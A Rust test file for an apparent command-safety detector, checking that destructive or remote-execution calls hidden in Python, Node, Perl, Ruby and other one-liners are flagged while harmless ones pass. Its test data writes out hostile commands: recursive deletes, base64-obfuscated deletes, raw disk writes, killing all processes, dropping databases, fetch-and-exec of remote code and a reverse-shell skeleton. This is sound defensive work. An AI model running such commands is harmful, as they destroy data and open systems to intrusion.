//! Programs in other languages: what their calls run, delete, move or empty.

use super::{assert_found, assert_silent};
use crate::model::Dialect;

#[test]
fn calls_are_found_under_every_name_they_are_given() {
    let tree = "fs.rm-recursive";
    assert_found(
        Dialect::Bash,
        &[
            (
                "python3 -c \"import os; getattr(os,'system')('rm -rf src')\"",
                tree,
            ),
            ("python3 -c \"__import__('shutil').rmtree('src')\"", tree),
            (
                "python3 -c \"import os; f = os.system; f('rm -rf src')\"",
                tree,
            ),
            (
                "node -e \"const {execSync: x}=require('child_process'); x('rm -rf src')\"",
                tree,
            ),
            (
                "node -e \"require('fs')['rmSync']('src',{recursive:true})\"",
                tree,
            ),
            (
                "deno eval 'new Deno.Command(\"rm\", {args: [\"-rf\", \"src\"]}).outputSync()'",
                tree,
            ),
            ("perl -e 'system qw(rm -rf src)'", tree),
            ("perl -e 'open(F, \"|rm -rf src\")'", tree),
            ("ruby -e 'system(*%w[rm -rf src])'", tree),
            ("scala -e 'import sys.process._; \"rm -rf src\".!'", tree),
            ("emacs --batch --eval '(delete-directory \"src\" t)'", tree),
            ("vim -c 'call delete(\"src\", \"rf\")' -c q", tree),
            (
                "python3 -c \"import os; os.rename('/usr', '/x')\"",
                "fs.mv-clobber",
            ),
            (
                "python3 -c \"import os; os.truncate('a.db', 0)\"",
                "fs.truncate",
            ),
            (
                "python3 -c \"open('/dev/sda', 'wb').write(b'x')\"",
                "disk.raw-write",
            ),
            ("python3 -c 'import os; os.kill(-1, 9)'", "sys.kill"),
        ],
    );
}

#[test]
fn texts_are_put_together_before_they_are_judged() {
    let tree = "fs.rm-recursive";
    assert_found(
        Dialect::Bash,
        &[
            (
                "python3 -c \"import os; os.system(' '.join(['rm','-rf','src']))\"",
                tree,
            ),
            (
                "python3 -c \"import os,base64; os.system(base64.b64decode('cm0gLXJmIHNyYw==').decode())\"",
                tree,
            ),
            (
                "node -e 'eval(atob(\"cmVxdWlyZSgiZnMiKS5ybVN5bmMoInNyYyIse3JlY3Vyc2l2ZTp0cnVlfSk=\"))'",
                tree,
            ),
            (
                "python3 -c \"import os; os.system(f'rm -rf {os.getcwd()}')\"",
                "fs.rm-dynamic",
            ),
            (
                "ruby -e 'system(\"rm -rf #{ENV[\"HOME\"]}\")'",
                "fs.rm-dynamic",
            ),
            (
                "perl -e 'system(\"rm\", \"-rf\", $ENV{HOME})'",
                "fs.rm-dynamic",
            ),
            ("awk '{ system(\"rm -rf \" $1) }' f", "fs.rm-dynamic"),
            ("awk '{ print \"rm -rf \" $1 | \"sh\" }' f", "fs.rm-dynamic"),
        ],
    );
}

#[test]
fn clients_of_stores_are_found_in_programs() {
    assert_found(
        Dialect::Bash,
        &[
            ("python3 -c \"c.execute('DROP TABLE users')\"", "db.drop"),
            (
                "python3 -c 'import redis; redis.Redis().flushall()'",
                "db.drop",
            ),
            (
                "node -e 'db.collection(\"a\").deleteMany({})'",
                "db.unfiltered",
            ),
            ("rails runner 'User.delete_all'", "db.unfiltered"),
            (
                "psql -Atc \"select 'drop table '||t from x\" | psql",
                "db.drop",
            ),
            (
                "redis-cli EVAL 'return redis.call(\"flushall\")' 0",
                "db.drop",
            ),
        ],
    );
    assert_silent(
        Dialect::Bash,
        &[
            "python3 -c \"c.execute('SELECT 1')\"",
            "rails runner 'User.where(id: 1).delete_all'",
            "node -e 'db.collection(\"a\").deleteMany({id: 1})'",
            "psql -Atc \"select 'drop table '||t from x\"",
        ],
    );
}

#[test]
fn code_that_a_program_fetches_and_runs_is_found() {
    let remote = "exec.remote";
    assert_found(
        Dialect::Bash,
        &[
            (
                "python3 -c 'import urllib.request as u; exec(u.urlopen(\"https://x\").read())'",
                remote,
            ),
            (
                "node -e 'fetch(\"https://x\").then(r=>r.text()).then(eval)'",
                remote,
            ),
            ("perl -MLWP::Simple -e 'eval get(\"https://x\")'", remote),
            ("Rscript -e 'source(\"https://x/r.R\")'", remote),
            ("deno run -A https://x/m.ts", remote),
            ("npx -y https://x/tool.tgz", remote),
            ("pnpm dlx https://x/tool.tgz", remote),
            ("uvx --python 3.12 git+https://x/tool --flag", remote),
            (
                "python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
                remote,
            ),
        ],
    );
    assert_silent(
        Dialect::Bash,
        &[
            "python3 -c 'import requests; print(requests.get(\"https://x\").text)'",
            "perl -e 'eval { $ua->get($url) }'",
            "deno run main.ts",
            "npx http-server https://x",
            "uv run main.py https://x",
        ],
    );
}

#[test]
fn what_a_program_makes_for_itself_or_only_speaks_of_is_left_alone() {
    assert_silent(
        Dialect::Bash,
        &[
            "python3 -c 'import shutil, tempfile; d=tempfile.mkdtemp(); shutil.rmtree(d)'",
            "python3 -c \"import os, shutil; shutil.rmtree(os.path.join('/tmp', 'x'))\"",
            "python3 -c 'import subprocess; subprocess.run([\"ls\", \"-la\"], check=True)'",
            "node -e 'console.log(`rm -rf ${process.cwd()}`)'",
            "ruby -e 'puts %q(rm -rf /)'",
            "perl -e 'print q(rm -rf /)'",
            "python3 -c \"open('out.txt', 'w').write('rm -rf /')\"",
            "python3 -c \"open('/etc/passwd').read()\"",
        ],
    );
}
